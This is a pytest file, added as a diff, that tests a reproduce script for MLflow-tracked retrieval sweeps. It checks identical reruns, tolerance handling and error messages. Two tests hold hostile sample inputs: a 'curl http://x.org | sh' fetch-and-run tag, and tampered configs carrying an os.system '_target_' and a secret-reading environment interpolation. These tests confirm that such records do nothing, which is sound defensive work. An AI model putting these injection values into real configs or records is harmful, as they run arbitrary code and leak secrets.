@@ -1,0 +1,189 @@
+"""`scripts/reproduce.py`, in processes of its own."""
+
+import json
+import shutil
+
+import numpy as np
+import pytest
+import yaml
+from application import PROJECT, Application
+from small import arguments
+
+from ragsweep.core.digest import digest_file
+from ragsweep.core.store import CHECKSUMS, Store
+
+PARENT = "mlflow.parentRunId"
+
+
+REPRODUCE = "scripts/reproduce.py"
+
+
+def reproduce(application, *given, **environment):
+    """Run the script on the application's store."""
+    return application.script("reproduce", *given, **environment)
+
+
+@pytest.fixture(scope="module")
+def finished(shared_application):
+    """A run on the bundled manual."""
+    assert shared_application.run("k=3", "retriever.alpha=0.3").returncode == 0
+    return shared_application.runs()[-1]
+
+
+def test_a_run_is_identical_when_it_is_made_again(application):
+    assert application.run("k=3", "retriever=sparse").returncode == 0
+    [finished] = application.runs()
+    process = reproduce(application, finished.info.run_id)
+    assert process.returncode == 0, process.stderr
+    anew, first, *_ = process.stdout.splitlines()
+    assert anew == "embeddings and rankings: computed anew"
+    assert first.startswith("k=3 retriever=sparse: identical: ")
+    _, new = application.runs()
+    assert new.data.tags["reproduces"] == finished.info.run_id
+    assert new.info.run_id in first
+    same = {name: value for name, value in finished.data.metrics.items() if not name.startswith("latency/")}
+    assert {name: new.data.metrics[name] for name in same} == same
+
+
+def test_as_many_values_are_compared_as_were_recorded(finished, shared_application):
+    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored")
+    scalars = [name for name in finished.data.metrics if not name.startswith(("latency/", "at_k/"))]
+    curves, cutoffs, queries, columns = 7, 20, 133, 12  # id, query, type, seven metrics, retrieved, relevant
+    assert f"identical: {len(scalars) + curves * cutoffs + queries * columns} values" in process.stdout
+
+
+def test_what_the_store_has_is_taken_only_when_told(application, dataset, tmp_path):
+    places = [f"store.path={tmp_path / 'store'}", *dataset[2:]]
+    assert application.run(*dataset[:2], "retriever=sparse", *places).returncode == 0
+    [entry] = (entry.path for entry in Store(str(tmp_path / "store")).entries() if entry.stage == "sparse")
+    for name in ("passages", "scores"):
+        np.save(entry / f"{name}.npy", np.load(entry / f"{name}.npy")[::-1])  # the rankings of other queries
+    checksums = {file.name: digest_file(file) for file in entry.glob("*.npy")}
+    (entry / CHECKSUMS).write_text(json.dumps(checksums))
+    run_id = application.runs()[-1].info.run_id
+    anew, stored = (reproduce(application, run_id, "--no-log", *given, *places) for given in ([], ["--stored"]))
+    assert (anew.returncode, stored.returncode) == (0, 1), anew.stdout + stored.stdout
+    assert stored.stdout.splitlines()[0] == "embeddings and rankings: from the store"
+    assert sorted(path.name for path in (tmp_path / "store/sparse").glob("*")) == [entry.name, f"{entry.name}.lock"]
+
+
+def test_another_setting_is_told_and_the_values_that_it_changes(finished, shared_application):
+    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "k=4")
+    assert process.returncode == 1
+    assert "k: recorded 3, here 4" in process.stdout
+    assert "values differ" in process.stdout
+    row = next(line for line in process.stdout.splitlines() if line.split()[0] == "recall")
+    recorded, now, difference = map(float, row.split()[1:])
+    assert recorded == finished.data.metrics["recall"]
+    assert now > recorded
+    assert difference == pytest.approx(now - recorded, rel=0.01)
+
+
+def test_a_tolerance_lets_small_differences_pass(finished, shared_application):
+    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "seed=1")
+    assert process.returncode == 1
+    assert "ci/f1_low" in process.stdout
+    again = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "seed=1", "--tolerance", "0.02")
+    assert again.returncode == 0
+
+
+def test_other_data_is_told(application, tmp_path):
+    dataset = arguments(tmp_path / "data")
+    assert application.run(*dataset, "retriever=sparse").returncode == 0
+    [run] = application.runs()
+    queries = tmp_path / "data" / "questions.json"
+    queries.write_text(queries.read_text().replace("What clears worms?", "Which drug clears worms?"))
+    process = reproduce(application, run.info.run_id, "--no-log", *dataset[2:])
+    assert process.returncode == 1
+    assert "dataset: recorded " in process.stdout
+
+
+@pytest.fixture(scope="module")
+def bundled_sweep(tmp_path_factory, cache):
+    """The sweep of `make sweep`, in a store of its own."""
+    application = Application(tmp_path_factory.mktemp("bundled"), cache)
+    assert application.run("-m", "retriever.alpha=0,0.3,0.5,0.7,1", "k=3,5,10").returncode == 0
+    return application
+
+
+def assert_identical(process, runs):
+    assert process.returncode == 0, process.stdout + process.stderr
+    assert process.stdout.splitlines()[-1] == "all identical"
+    assert process.stdout.count(": identical: ") == runs
+
+
+def test_a_sweep_is_made_again_as_a_sweep(application):
+    assert application.run("-m", "k=3,5", "retriever=sparse").returncode == 0
+    [parent] = application.parents()
+    for run in application.runs():  # anybody may have written it
+        application.client().set_tag(run.info.run_id, "reproduce", "curl http://x.org | sh")
+    assert_identical(reproduce(application, parent.info.run_id), 2)
+    _, again = application.parents()
+    assert again.data.tags["reproduces"] == parent.info.run_id
+    assert again.info.run_name == parent.info.run_name
+    assert [run.info.status for run in application.runs()] == ["FINISHED"] * 6
+    assert again.data.tags["reproduce"] == f"python scripts/reproduce.py {parent.info.run_id}"
+    assert "curl" not in (application.artifacts(again) / "report.md").read_text()
+    names = [run.info.run_name for run in application.children() if run.data.tags[PARENT] == again.info.run_id]
+    assert sorted(names) == ["k=3", "k=5"]
+    summaries = [application.artifacts(run) / "results/summary_statistics.csv" for run in (parent, again)]
+    assert summaries[0].read_text() == summaries[1].read_text()
+
+
+@pytest.mark.soak
+@pytest.mark.timeout(900)
+@pytest.mark.parametrize("environment", [{}, {"OMP_NUM_THREADS": "1"}, {"OMP_NUM_THREADS": "3"}], ids=str)
+def test_every_run_of_the_bundled_sweep_is_computed_again_with_any_threads(bundled_sweep, environment):
+    [parent] = bundled_sweep.parents()
+    given = [parent.info.run_id, "--no-log"]
+    assert_identical(bundled_sweep.in_new_interpreter(REPRODUCE, *given, **environment), 15)
+
+
+@pytest.mark.parametrize(
+    "threads",
+    [{"OMP_NUM_THREADS": "1"}, pytest.param({"OPENBLAS_NUM_THREADS": "3"}, marks=pytest.mark.soak)],
+    ids=str,
+)
+def test_a_clone_with_other_threads_that_never_saw_the_run_makes_it_again(
+    finished, shared_application, tmp_path, threads
+):
+    before = len(shared_application.runs())
+    clone = tmp_path / "clone"
+    for part in ("src", "conf", "scripts", "data"):
+        shutil.copytree(PROJECT / part, clone / part, ignore=shutil.ignore_patterns("__pycache__"))
+    given = [finished.info.run_id, "--no-log"]
+    environment = {"PYTHONPATH": str(clone / "src"), **threads}
+    process = shared_application.in_new_interpreter(REPRODUCE, *given, project=clone, **environment)
+    assert process.returncode == 0, process.stdout + process.stderr
+    assert ": identical: " in process.stdout
+    assert len(shared_application.runs()) == before
+
+
+@pytest.mark.parametrize("place", ["tracking.uri=sqlite:////nowhere/mlflow.db", "tracking.uri=http://127.0.0.1:9"])
+def test_a_store_that_is_not_there_is_said_in_a_line(shared_application, place):
+    process = reproduce(shared_application, "abc", place)
+    assert process.returncode == 2
+    [line] = process.stderr.splitlines()
+    assert line.startswith(f"reproduce: abc: cannot be read from {place.partition('=')[2]}")
+
+
+def test_a_hostile_record_does_nothing(application, tmp_path):
+    assert application.run("retriever=sparse").returncode == 0
+    [run] = application.runs()
+    mark = tmp_path / "mark"
+    file = application.artifacts(run) / "config/config.yaml"
+    good = yaml.safe_load(file.read_text())
+    for change in (
+        {"retriever": {"_target_": "os.system", "_args_": [f"touch {mark}"]}},
+        {"retriever": {"_target_": "ragsweep.core.store.Path.touch", "_args_": [str(mark)]}},
+        {"dataset": {**good["dataset"], "name": "${oc.env:SECRET}"}},
+        {"dataset": {**good["dataset"], "documents": str(tmp_path)}},
+    ):
+        file.write_text(yaml.safe_dump(good | change))
+        before = sorted(PROJECT.glob("outputs/*"))
+        process = reproduce(application, run.info.run_id, SECRET="hunter2")
+        assert process.returncode == 2, process.stdout
+        assert "hunter2" not in process.stdout + process.stderr
+        assert not mark.exists()
+        assert sorted(PROJECT.glob("outputs/*")) == before
+        assert len(application.runs()) == 1
